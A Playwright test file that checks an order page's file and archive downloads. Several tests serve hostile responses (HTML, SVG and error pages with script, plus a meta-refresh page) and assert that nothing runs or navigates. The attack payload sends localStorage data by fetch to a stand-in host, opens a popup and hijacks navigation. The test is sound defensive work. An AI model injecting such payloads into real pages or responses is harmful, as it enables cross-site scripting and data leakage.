/**
 * @promise A file and an archive are saved under the name that the page shows, as the response names them.
 * @promise A download that the backend delivers as a page, a picture or an error page runs nothing and
 *   navigates nothing.
 */
import type { Page } from '@playwright/test'
import { startStaticServer } from '../../../scripts/lib/static-server.mjs'
import { startSameOriginProxy } from '../../bench/lib/same-origin-proxy.mjs'
import { environment, expect, test } from '../../support/browser'
import { more } from '../../support/more'
import { api, demo, keepSession, logIn } from '../../support/api-session'

// Who writes a text that the API delivers may get it into a download. The browser logs what it blocks.
test.use({
  allowedErrors: [
    /^console\.error: (Blocked script|Refused to|Unsafe attempt|Failed to load resource|.*policy)|^csp: |ERR_BLOCKED/,
  ],
})

const elsewhere = 'https://elsewhere.example/'
const attack = `
  try { parent.document.title = 'taken' } catch {}
  try { fetch('${elsewhere}?' + parent.localStorage.length) } catch {}
  open('${elsewhere}popup')
  top.location = '${elsewhere}top'`

const hostile = {
  'a page with a script': { contentType: 'text/html', body: `<script>${attack}</script>` },
  'a picture with a script': {
    contentType: 'image/svg+xml',
    body: `<svg xmlns="http://www.w3.org/2000/svg"><script>${attack}</script></svg>`,
  },
  'an error page with a script': {
    status: 500,
    contentType: 'text/html',
    body: `<body onload="${attack.replaceAll('\n', ';')}">`,
  },
  'a page that loads another': {
    contentType: 'text/html',
    body: `<meta http-equiv="refresh" content="0; url=${elsewhere}frame">`,
  },
}

/** The site with its API on its own origin, where a document can do more than one of another origin. */
async function startSite() {
  const site = await startStaticServer({
    root: environment('LISTWELL_BUILT_FILES'),
    // The hub stays where the mock API's responses say that it is.
    meta: { VITE_MERCURE_ORIGIN: new URL(api('')).origin },
  })
  const proxy = await startSameOriginProxy(site.url, api(''))
  return {
    url: proxy.url,
    host: new URL(proxy.url).host,
    close: () => Promise.all([proxy.close(), site.close()]),
  }
}

async function openOrder(page: Page, site: { url: string; host: string }) {
  const session = await logIn(page.request, demo)
  await keepSession(page.context(), session, site.host)
  const headers = { Authorization: `Bearer ${session.access_token}` }
  const order: { orderNumber: string } = await (await page.request.get(api('orders/59'), { headers })).json()
  const url = `${site.url}/order/${order.orderNumber}/details`
  await page.goto(url)
  return {
    url,
    orderNumber: order.orderNumber,
    file: page.getByRole('button', { name: 'Download starter.csv' }),
  }
}

for (const [name, response] of Object.entries(hostile))
  test(`a download runs nothing and opens nothing where it is ${name}`, more, async ({ page }) => {
    const site = await startSite()
    const effects: string[] = []
    page.context().on('page', opened => effects.push(`popup ${opened.url()}`))
    page.context().on('request', request => {
      if (request.url().startsWith(elsewhere)) effects.push(request.url())
    })
    try {
      const { url, file } = await openOrder(page, site)
      await page.route(/\/download\?bearer=/, route => route.fulfill(response))
      await file.click()
      await expect(page.locator('[data-sonner-toast]').getByText('Download Failed')).toBeVisible()
      // A request that the document begins comes before one that the page begins after it.
      await page.evaluate(() => fetch('/favicon.svg').then(({ text }) => text))
      expect(effects).toEqual([])
      expect(page.url()).toBe(url)
      expect(await page.title()).not.toBe('taken')
      await expect(file).toBeEnabled()
    } finally {
      await site.close()
    }
  })

test('a download is saved under the name that the page shows', more, async ({ page }) => {
  const site = await startSite()
  try {
    const { file, orderNumber } = await openOrder(page, site)
    const toasts = page.locator('[data-sonner-toast]')
    // The toast may go before the download has ended.
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      expect(toasts.getByText('Download Started')).toBeVisible(),
      expect(toasts.getByText('starter.csv is on its way to your downloads.')).toBeVisible(),
      file.click(),
    ])
    expect(download.suggestedFilename()).toBe('starter.csv')
    expect(await download.failure()).toBeNull()

    const all = page.getByRole('button', { name: 'Download All Files' })
    const name = `order_${orderNumber}_files.zip`
    const [archive] = await Promise.all([
      page.waitForEvent('download'),
      expect(toasts.getByText(`${name} is on its way to your downloads.`)).toBeVisible(),
      all.click(),
    ])
    expect(archive.suggestedFilename()).toBe(name)
  } finally {
    await site.close()
  }
})
